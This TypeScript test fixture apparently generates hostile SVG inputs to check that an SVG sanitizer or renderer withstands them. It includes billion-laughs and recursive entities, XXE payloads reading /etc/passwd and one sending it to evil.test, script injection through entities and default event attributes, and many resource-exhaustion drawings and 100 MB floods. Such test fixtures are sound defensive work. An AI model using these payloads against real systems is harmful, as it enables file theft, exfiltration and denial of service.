import { hostile, renderHostile, shape, type HostileDrawing } from "./hostile-drawing.ts";

const megabyte = 1_048_576;
const repeat = (count: number, print: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => print(index)).join("");
/** Each level shows the one below it several times. */
const pile = (levels: number, copies: number, print: (level: number, inner: string) => string) =>
  repeat(levels, (level) => print(level + 1, `<use href="#l${level}"/>`.repeat(copies)));
const first = '<path id="l0" d="M0 0h9v9"/>';
const withType = (type: string, inner = "", root = "") =>
  `<?xml version="1.0"?><!DOCTYPE svg ${type}>${renderHostile(inner, root)}`;

const hurried =
  '<path d="M0 0h9v9"><animate attributeName="d" values="M0 0;M9 9" dur=".001s" repeatCount="indefinite"/></path>';

const entities: Readonly<Record<string, string>> = {
  "a billion laughs": withType(
    `[<!ENTITY a0 "ha">${repeat(20, (level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`)}]`,
    "<title>&a20;</title>",
  ),
  "a long entity many times": withType(
    `[<!ENTITY a "${"x".repeat(40_000)}">]`,
    `<title>${"&a;".repeat(9_000)}</title>`,
  ),
  "an entity of itself": withType('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "<title>&a;</title>"),
  "an entity with markup": withType(`[<!ENTITY a "<script>top.hit=1</script>">]`, "&a;"),
  "an entity in an attribute": withType(
    `[<!ENTITY a "javascript:top.hit=1">]`,
    '<a href="&a;"><rect width="24" height="24"/></a>',
  ),
  "an entity from a file": withType('[<!ENTITY a SYSTEM "file:///etc/passwd">]', "<title>&a;</title>"),
  "an entity from another site": withType('[<!ENTITY a SYSTEM "https://evil.test/a">]', "<title>&a;</title>"),
  "an entity from a public place": withType('[<!ENTITY a PUBLIC "x" "https://evil.test/a">]', "<title>&a;</title>"),
  "a parameter entity": withType('[<!ENTITY % a SYSTEM "https://evil.test/a.dtd"> %a;]'),
  "a parameter in a parameter": withType(
    `[<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; x SYSTEM 'https://evil.test/?%f;'>"> %e; %x;]`,
  ),
  "an entity that is not known": renderHostile("<title>&nbsp;&unknown;</title>"),
  "a type from another site": withType('SYSTEM "https://evil.test/a.dtd"'),
  "a default attribute": withType(`[<!ATTLIST svg onload CDATA "top.hit=1">]`),
  "a default attribute of a shape": withType(`[<!ATTLIST path onclick CDATA #FIXED "top.hit=1">]`),
  "a type that is not closed": `<!DOCTYPE svg [<!ENTITY a "x" ${renderHostile("")}`,
  "a notation": withType('[<!NOTATION n SYSTEM "https://evil.test/"><!ENTITY a SYSTEM "x.gif" NDATA n>]'),
};

const crowds: Readonly<Record<string, string>> = {
  "uses of uses": renderHostile(
    first + pile(20, 10, (level, inner) => `<g id="l${level}">${inner}</g>`) + '<use href="#l20"/>',
  ),
  "uses of symbols": renderHostile(
    first + pile(14, 8, (level, inner) => `<symbol id="l${level}">${inner}</symbol>`) + '<use href="#l14"/>',
  ),
  "a chain of uses": renderHostile(first + repeat(1_500, (level) => `<use id="l${level + 1}" href="#l${level}"/>`)),
  "patterns in patterns": renderHostile(
    first +
      repeat(
        12,
        (level) =>
          `<pattern id="p${level}" width=".01" height=".01">${`<rect width="9" height="9" fill="url(#p${level + 1})"/>`.repeat(9)}</pattern>`,
      ) +
      '<rect width="24" height="24" fill="url(#p0)"/>',
  ),
  "a pattern of specks": renderHostile(
    '<pattern id="p" width="0.00001" height="0.00001" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect width="24" height="24" fill="url(#p)"/>',
  ),
  "masks in masks": renderHostile(
    first +
      repeat(
        12,
        (level) => `<mask id="m${level}">${`<rect width="9" height="9" mask="url(#m${level + 1})"/>`.repeat(9)}</mask>`,
      ) +
      '<rect width="24" height="24" mask="url(#m0)"/>',
  ),
  "clips in clips": renderHostile(
    first +
      repeat(
        12,
        (level) =>
          `<clipPath id="c${level}">${`<rect width="9" height="9" clip-path="url(#c${level + 1})"/>`.repeat(9)}</clipPath>`,
      ) +
      '<rect width="24" height="24" clip-path="url(#c0)"/>',
  ),
  "markers on every corner": renderHostile(
    `<marker id="m" markerWidth="9" markerHeight="9">${'<path d="M0 0h9v9"/>'.repeat(500)}</marker><path marker-mid="url(#m)" d="M0 0${"l1 1".repeat(15_000)}"/>`,
  ),
  "markers on markers": renderHostile(
    repeat(
      9,
      (level) =>
        `<marker id="m${level}" markerWidth="9" markerHeight="9"><path marker-mid="url(#m${level + 1})" d="M0 0${"l1 1".repeat(20)}"/></marker>`,
    ) + '<path marker-mid="url(#m0)" d="M0 0l1 1l1 1l1 1"/>',
  ),
  "groups that are see-through": renderHostile(`${'<g opacity=".9">'.repeat(90)}${shape}${"</g>".repeat(90)}`),
  "thousands of layers": renderHostile('<path opacity=".5" d="M0 0h24v24H0z"/>'.repeat(2_300)),
  "thousands of filters": renderHostile(
    `<filter id="f" x="-9" y="-9" width="19" height="19"><feGaussianBlur stdDeviation="9"/></filter>${'<path filter="url(#f)" d="M0 0h9v9"/>'.repeat(2_000)}`,
  ),
  "filters in groups": renderHostile(
    `<filter id="f" x="-500%" y="-500%" width="1100%" height="1100%"><feMorphology radius="99"/><feGaussianBlur stdDeviation="99"/></filter>${'<g filter="url(#f)">'.repeat(60)}${shape}${"</g>".repeat(60)}`,
  ),
  "a filter of everywhere": renderHostile(
    '<filter id="f" filterUnits="userSpaceOnUse" x="-999999" y="-999999" width="1999998" height="1999998"><feGaussianBlur stdDeviation="99999"/><feMorphology operator="dilate" radius="99999"/></filter><path filter="url(#f)" d="M0 0h9v9"/>',
  ),
  "a filter of many steps": renderHostile(
    `<filter id="f">${'<feMorphology operator="dilate" radius="50"/>'.repeat(2_000)}</filter><path filter="url(#f)" d="M0 0h9v9"/>`,
  ),
  "groups in groups": renderHostile("<g>".repeat(12_000) + shape + "</g>".repeat(12_000)),
  "unknown in unknown": renderHostile("<x>".repeat(12_000) + "</x>".repeat(12_000)),
  "groups without end": renderHostile("<g>".repeat(30_000)),
  "more parts than anybody draws": renderHostile("<g/>".repeat(24_000)),
  "more attributes than anybody writes": renderHostile(
    `<path d="M0 0h9v9" ${repeat(8_000, (index) => `a${index}=""`)}/>`,
  ),
  "vocabularies by the thousand": renderHostile(`<g ${repeat(3_000, (index) => `xmlns:a${index}="u:${index}"`)}/>`),
  "a path of one point a thousand times": renderHostile(
    `<path stroke="#000" stroke-width="9" stroke-dasharray=".0001" d="M0 0${"L24 24L0 0".repeat(9_000)}"/>`,
  ),
  "dashes without end": renderHostile(
    '<path stroke="#000" stroke-dasharray="0.000001 0.000001" d="M0 0L999999 999999L0 999999L999999 0"/>',
  ),
  "movements by the thousand": renderHostile(hurried.repeat(800)),
  "as many movements as there may be": renderHostile(hurried.repeat(60)),
  "a very long name": renderHostile(`<${"g".repeat(90_000)}/>`),
  "a very long number": renderHostile(`<rect width="${"9".repeat(90_000)}" height="9"/>`),
  "a very long list": renderHostile(`<polygon points="${"1 ".repeat(40_000)}"/>`),
  "a very long timing": renderHostile(
    `<path d="M0 0h9v9"><set attributeName="fill" to="red" begin="${"a.end;".repeat(15_000)}"/></path>`,
  ),
  "a list of nearly numbers": renderHostile(`<polygon points="${"1e".repeat(40_000)}"/>`),
  "comments by the thousand": renderHostile("<!-- -->".repeat(10_000)),
  "a comment without end": renderHostile(`<!--${" -".repeat(40_000)}`),
};

const loops: Readonly<Record<string, string>> = {
  "a use of itself": renderHostile('<use id="a" href="#a"/>'),
  "a use of what it is in": renderHostile('<g id="a"><use href="#a"/><path d="M0 0h9v9"/></g>'),
  "a use of the whole": renderHostile('<use href="#root"/>', ' id="root"'),
  "two uses of each other": renderHostile('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  "a mask of itself": renderHostile(
    '<mask id="a"><rect width="9" height="9" mask="url(#a)"/></mask><rect width="9" height="9" mask="url(#a)"/>',
  ),
  "a clip of itself": renderHostile(
    '<clipPath id="a" clip-path="url(#a)"><rect width="9" height="9"/></clipPath><rect width="9" height="9" clip-path="url(#a)"/>',
  ),
  "a pattern of itself": renderHostile(
    '<pattern id="a" width="1" height="1"><rect width="9" height="9" fill="url(#a)"/></pattern><rect width="9" height="9" fill="url(#a)"/>',
  ),
  "a pattern by inheritance": renderHostile(
    '<g fill="url(#a)"><pattern id="a" width="1" height="1"><rect width="9" height="9"/></pattern><rect width="9" height="9"/></g>',
  ),
  "patterns of each other": renderHostile(
    '<pattern id="a" href="#b"/><pattern id="b" href="#a"/><rect width="9" height="9" fill="url(#a)"/>',
  ),
  "gradients of each other": renderHostile(
    '<linearGradient id="a" href="#b"/><radialGradient id="b" href="#a"/><rect width="9" height="9" fill="url(#a)"/>',
  ),
  "a marker of itself": renderHostile(
    '<marker id="a" markerWidth="9" markerHeight="9"><path marker-start="url(#a)" d="M0 0h9"/></marker><path marker-start="url(#a)" d="M0 0h9"/>',
  ),
  "a filter of itself": renderHostile(
    '<filter id="a" href="#a" filter="url(#a)"><feFlood/></filter><rect width="9" height="9" filter="url(#a)"/>',
  ),
  "movements that wait for each other": renderHostile(
    '<path d="M0 0h9v9"><set id="a" attributeName="fill" to="red" begin="b.begin" end="b.end"/><set id="b" attributeName="fill" to="blue" begin="0s;a.begin" dur=".001s"/></path>',
  ),
};

const numbers = [
  "1e999",
  "-1e999",
  "NaN",
  "Infinity",
  "1e308",
  "99999999999",
  "-0",
  "1e-999",
  "0x10",
  "١٢",
  "1,5e",
  "--1",
  "+",
  "",
  "1e6px1e6",
  "100vw",
  "calc(1px*1e9)",
  "attr(x)",
];

const places: Readonly<Record<string, (number: string) => string>> = {
  coordinates: (number) =>
    renderHostile(`<rect x="${number}" y="${number}" width="${number}" height="${number}" rx="${number}"/>`),
  path: (number) =>
    renderHostile(`<path d="M0 0L${number} ${number}A${number} 1 0 0 1 9 9z" stroke="#000" stroke-width="${number}"/>`),
  transform: (number) =>
    renderHostile(`<path d="M0 0h9v9" transform="scale(${number}) matrix(${number} 0 0 1 0 0) rotate(${number})"/>`),
  size: (number) =>
    renderHostile("").replace(
      'viewBox="0 0 24 24"',
      `viewBox="0 0 ${number} ${number}" width="${number}" height="${number}"`,
    ),
  movement: (number) =>
    renderHostile(
      `<path d="M0 0h9v9"><animate attributeName="x" from="${number}" to="${number}" dur="${number}s" begin="${number}s" repeatCount="${number}"/></path>`,
    ),
};

export const listBombs = (): HostileDrawing[] => [
  ...[entities, crowds, loops].flatMap((group) => Object.entries(group).map(([name, text]) => hostile(name, text))),
  ...Object.entries(places).flatMap(([place, print]) =>
    numbers.map((number) => hostile(`"${number}" in ${place}`, print(number))),
  ),
];

/** Far more bytes than a drawing may have. */
export const listFloods = (): HostileDrawing[] => [
  { name: "100 MB of groups", bytes: Buffer.alloc(100 * megabyte, "<g>") },
  { name: "100 MB of space", bytes: Buffer.alloc(100 * megabyte, " ") },
  hostile("one byte too many", renderHostile("").padEnd(102_401)),
];
